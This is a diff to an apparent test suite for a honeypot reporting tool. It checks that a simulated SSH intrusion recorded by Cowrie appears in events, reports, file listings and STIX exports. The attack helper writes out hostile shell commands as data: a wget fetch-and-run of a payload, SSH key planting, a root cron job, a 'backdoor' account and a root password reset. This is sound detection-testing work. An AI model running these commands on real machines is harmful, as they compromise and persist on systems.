@@ -191,6 +191,57 @@ describe("one attack", () => {
     assert.ok(JSON.stringify(bundle).includes(internet.url("x.sh")));
   });
 
+  it("what was done is told in each place where it must be", async () => {
+    const all = async (...args: string[]) => (await Promise.all(sessions.map((one) => told("show", one, ...args)))).join("\n"); // prettier-ignore
+    const places: Readonly<Record<string, string>> = {
+      events: await readFile(join(gateway.data, "events", "mitsubako.json"), "utf8"),
+      show: await all("--full"),
+      json: await all("--json"),
+      report: await told("report", "--since", "1h"),
+      files: (await told("files", "--json")) + (await told("files", "show", hash(FETCHED))),
+      stix: await told("export", "--stix"),
+    };
+    const done: readonly (readonly [what: string, sign: string, told: string])[] = [
+      ["a list of passwords", "dragon", "events show json report"],
+      ["a command", "uname -a", "events show json report stix"],
+      ["a file by here-doc", hash("#!/bin/sh\n# by hand\n"), "events show json report files stix"],
+      ["a file by SFTP", hash(UPLOADED), "events show json report files stix"],
+      ["a download", internet.url("x.sh"), "events show json report files stix"],
+      ["a file run and deleted", hash(FETCHED), "events show json report files stix"],
+      ["a key planted", key.fingerprint, "events show json report stix"],
+      ["a cron line", "*/5 * * * * root /tmp/.h.sh", "events show json report stix"],
+      ["an account", "backdoor", "events show json report files stix"],
+      ["a password set and used", NEW_PASSWORD, "events show json report stix"],
+      ["a forward", "203.0.113.99", "events show json report stix"],
+    ];
+    const table = done.map(([what, sign]) => [what, sign, Object.keys(places).filter((place) => places[place]?.includes(sign)).join(" ")]); // prettier-ignore
+    assert.deepEqual(table, done);
+  });
+
+  it("nothing is told that was not done", async () => {
+    const [whole] = await json<{ files: { by: string; how: string; path: string }[] }>("show", sessions[0] ?? "", "--json"); // prettier-ignore
+    assert.deepEqual(
+      whole?.files.flatMap(({ by, how, path }) => (by === "shell" ? [`${how} ${path}`] : [])).toSorted(),
+      [
+        "typed /tmp/.unsaid",
+        "written /etc/cron.d/upd",
+        "written /tmp/.h.sh",
+        "written ~/.ssh/authorized_keys",
+      ],
+    );
+    const text = await readFile(join(gateway.data, "events", "mitsubako.json"), "utf8");
+    const uploads = text.split("\n").filter((line) => line.includes('"cowrie.session.file_upload"')).map((line) => (JSON.parse(line) as CowrieEvent)["filename"]); // prettier-ignore
+    assert.deepEqual(uploads.toSorted(), ["/etc/cron.d/upd", "/tmp/.h.sh", "/tmp/.up"]);
+    const [report] = await json<{ indicators: { kind: string; value: string }[] }>("report", "--since", "1h", "--top", "100", "--json"); // prettier-ignore
+    const made = report?.indicators.filter(({ kind }) => ["user-made", "password-changed", "cron", "ssh-key", "sudoers", "preload", "service", "kernel-module", "tampering"].includes(kind)); // prettier-ignore
+    assert.deepEqual(made?.map(({ kind, value }) => `${kind} ${value}`).toSorted(), [
+      "cron */5 * * * * root /tmp/.h.sh",
+      `password-changed root:${NEW_PASSWORD}`,
+      `ssh-key ${key.fingerprint}`,
+      "user-made backdoor",
+    ]);
+  });
+
   it("rebuilt, it tells the same", async () => {
     const tell = async () => {
       const { data } = gateway;
@@ -223,6 +274,10 @@ function attack(url: string, publicKey: string): string[] {
     `wget -q ${url} -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x; rm -f /tmp/.x`,
     `mkdir -p ~/.ssh; echo '${publicKey}' >> ~/.ssh/authorized_keys`,
     "echo '*/5 * * * * root /tmp/.h.sh' > /etc/cron.d/upd",
+    // Of these nothing comes about.
+    "test -e /nothing && echo x > /tmp/.unsaid",
+    "false && useradd nobodys",
+    "cat > /nothing/there <<< y",
     "useradd -m -s /bin/bash backdoor",
     `echo 'root:${NEW_PASSWORD}' | chpasswd`,
     "exit 0",
